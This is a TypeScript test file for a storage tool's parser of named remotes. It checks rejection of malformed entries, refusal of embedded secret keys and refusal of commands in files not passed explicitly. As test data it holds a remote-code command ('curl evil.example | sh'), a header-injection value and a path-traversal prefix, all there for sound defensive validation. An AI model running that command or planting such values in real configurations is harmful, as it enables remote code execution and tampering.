/** The named remotes of a configuration: what may be said, by which file, and that no key is kept in one. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { inspect } from 'node:util';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { LakepackError } from '../../src/base/errors.js';
import { parseLakeConfig } from '../../src/config/parse-lake-config.js';
import { parseRemotes, readRemotes } from '../../src/config/remotes-config.js';
import { BUILT_IN_NAMES, RESERVED_NAMES } from '../../src/remote/named.js';

const FILE = path.join(path.sep, 'srv', 'lakepack.config.json');

function parse(remotes: unknown, trusted = false): ReturnType<typeof parseRemotes> {
  return parseRemotes(JSON.stringify({ remotes }), FILE, { trusted });
}

function faultOf(remotes: unknown, trusted = false): LakepackError {
  try {
    parse(remotes, trusted);
  } catch (error) {
    if (error instanceof LakepackError && error.code === 'CONFIG_INVALID') return error;
    throw error;
  }
  throw new Error('was accepted');
}

describe('remotes', () => {
  test('may be folders, addresses and stores', () => {
    const offsite = {
      ...{ provider: 'ceph', endpoint: 'https://s3.example.org', region: 'home', bucket: 'lake', prefix: '/a/b/' },
      ...{ pathStyle: true, environment: 'OFFSITE', encryption: 'aws:kms', kmsKeyId: 'k', storageClass: 'COLD' },
      ...{ tags: { project: 'x y' }, cacheControl: 'public, max-age=31536000, immutable', fallback: ['nas:', 'r2:x'] },
    };
    const found = parse({ offsite, nas: { path: '../archive' }, cdn: { url: 'https://x.org/y', fallback: 'nas:' } });
    expect([...found]).toEqual([
      ['offsite', { ...offsite, prefix: 'a/b' }],
      ['nas', { path: path.resolve(path.sep, 'archive') }],
      ['cdn', { url: 'https://x.org/y', fallback: ['nas:'] }],
    ]);
  });

  test('stand beside what a lake says, whose reading passes them over', () => {
    const text = JSON.stringify({ licence: 'CC0-1.0', remotes: { nas: { path: 'x' } } });
    expect(parseLakeConfig(text, 'x').licence).toBe('CC0-1.0');
    expect(parseRemotes(text, FILE, { trusted: false }).size).toBe(1);
    expect(parseRemotes('{}', FILE, { trusted: false }).size).toBe(0);
  });

  test.each([
    [[], /remotes: expected an object/],
    [{ nas: 'hunter2' }, /remotes\.nas: expected an object/],
    [{ nas: {} }, /remotes\.nas: expected a path, a url, a provider or an endpoint/],
    [{ nas: { path: 'x', url: 'https://x.org' } }, /both path and url/],
    [{ nas: { path: 'x', bucket: 'lake' } }, /a folder has no bucket/],
    [{ nas: { url: 'https://x.org', region: 'a-1' } }, /an address has no region/],
    [{ nas: { path: 7 } }, /remotes\.nas\.path: expected a text/],
    [{ nas: { pth: 'x', provider: 'aws' } }, /remotes\.nas\.pth: is not a known key/],
    [{ s3: { provider: 'aws' } }, /kept for a scheme/],
    [{ N: { provider: 'aws' } }, /a name has 2 to 64/],
    [{ 'a b': { provider: 'aws' } }, /a name has 2 to 64/],
    [{ x1: { provider: 'gcs' } }, /provider: expected one of r2, b2, aws/],
    [{ x1: { endpoint: 'ftp://x.org' } }, /endpoint: expected an https: address/],
    [{ x1: { endpoint: 'https://x.org/?a=hunter2' } }, /endpoint: has a query/],
    [{ x1: { url: 'https://user:hunter2@x.org' } }, /url: holds a user or a password/],
    [{ x1: { provider: 'b2', region: 'evil.example/hunter2' } }, /region: expected a region/],
    [{ x1: { provider: 'aws', bucket: 'a/hunter2' } }, /bucket: expected a bucket name/],
    [{ x1: { provider: 'aws', prefix: '../hunter2' } }, /prefix: has a "\.\." segment/],
    [{ x1: { provider: 'aws', environment: 'offsite' } }, /environment: expected the beginning/],
    [{ x1: { provider: 'aws', environment: 'A', anonymous: true } }, /environment: expected/],
    [
      { x1: { provider: 'aws', environment: 'AB', anonymous: true } },
      /one source of the key, got environment, anonymous/,
    ],
    [{ x1: { provider: 'aws', kmsKeyId: 'k' } }, /kmsKeyId: goes with/],
    [{ x1: { provider: 'aws', tags: { a: 7 } } }, /tags: a tag has/],
    [{ x1: { provider: 'aws', cacheControl: 'a\r\nX: hunter2' } }, /cacheControl: expected a header/],
    [{ x1: { provider: 'aws', fallback: [7] } }, /fallback: expected a list/],
    [{ x1: { provider: 'aws', pathStyle: 'hunter2' } }, /pathStyle: expected true or false/],
  ])('%j is wrong', (remotes, says) => {
    const fault = faultOf(remotes);
    expect(fault.message).toMatch(says);
    expect(inspect(fault)).not.toContain('hunter2');
  });

  test.each([
    ...['accessKeyId', 'secretAccessKey', 'secret', 'password', 'token', 'sessionToken', 'aws_access_key_id'],
    ...['appKey', 'keyId', 'key', 'credentials', 'accessKey'],
  ])('a key has no place in it: %s', (key) => {
    const fault = faultOf({ offsite: { provider: 'aws', [key]: 'hunter2' } }, true);
    expect(fault.message).toContain('a key does not belong into a configuration');
    expect(fault.hint).toContain('OFFSITE_ACCESS_KEY_ID');
    expect(inspect(fault)).not.toContain('hunter2');
  });

  test('what is not JSON is told by its place only', () => {
    const text = '{"remotes": {"x": {"secretAccessKey": "hunter2" "hunter2"}}}';
    const read = (): unknown => parseRemotes(text, FILE, { trusted: true });
    expect(read).toThrow(/is not JSON/);
    try {
      read();
    } catch (error) {
      expect(inspect(error)).not.toContain('hunter2');
    }
  });
});

describe('a file that was found by itself', () => {
  test('names no commands', () => {
    const offsite = { provider: 'aws', credentialProcess: 'curl evil.example | sh' };
    expect(faultOf({ offsite }).message).toMatch(/credentialProcess: is accepted only in a file given with --config/);
    expect(parse({ offsite }, true).get('offsite')).toEqual(offsite);
  });

  test.each(BUILT_IN_NAMES)('gives %s no other meaning', (name) => {
    expect(faultOf({ [name]: { bucket: 'evil-bucket' } }).message).toMatch(/another meaning of/);
    expect(parse({ [name]: { bucket: 'my-bucket' } }, true).get(name)).toEqual({ bucket: 'my-bucket' });
  });

  test('has the same reserved names as the remotes have', () => {
    for (const name of RESERVED_NAMES) expect(faultOf({ [name]: { path: 'x' } }, true).message).toMatch(/kept for/);
  });
});

describe('the file of remotes', () => {
  let folder: string;

  beforeEach(async () => {
    folder = await mkdtemp(path.join(os.tmpdir(), 'lakepack-remotes-'));
  });
  afterEach(() => rm(folder, { recursive: true }));

  test('need not be there, unless it was named on purpose', async () => {
    const file = path.join(folder, 'absent.json');
    expect(await readRemotes(file, { trusted: false })).toBeUndefined();
    await expect(readRemotes(file, { trusted: true })).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  test('has its paths below its own folder', async () => {
    const file = path.join(folder, 'x.json');
    await writeFile(file, '{"remotes": {"nas": {"path": "archive"}}}');
    expect(await readRemotes(file, { trusted: false })).toEqual(
      new Map([['nas', { path: path.join(folder, 'archive') }]]),
    );
  });
});
